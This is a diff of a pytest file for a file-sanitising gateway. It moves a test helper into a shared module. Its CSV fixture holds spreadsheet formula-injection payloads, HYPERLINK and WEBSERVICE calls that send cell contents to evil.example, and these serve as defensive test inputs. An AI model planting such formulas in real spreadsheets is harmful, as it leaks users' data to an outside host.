@@ -8,9 +8,8 @@ from pathlib import Path
 import pytest
 
 from gateway.models import Verdict
-from gateway.pipeline.run import process_file
 from gateway.policy import FormatPolicy, load
-from tests.conftest import check_report_schema
+from tests.helpers.pipeline import run
 
 POLICY = load("default")
 
@@ -20,13 +19,6 @@ CSV = ("氏名,金額,備考\r\n"
        "佐藤,=SUM(B2:B3),\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"詳細\"\")\"\r\n"
        "@WEBSERVICE(\"http://evil.example\"),+1,ok\r\n")
 
-
-def run(tmp_path: Path, data: bytes, name: str, policy=POLICY):
-    src, out = tmp_path / name, tmp_path / ("out-" + name)
-    src.write_bytes(data)
-    report = process_file(src, out, policy=policy)
-    check_report_schema(report)
-    return report, out
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
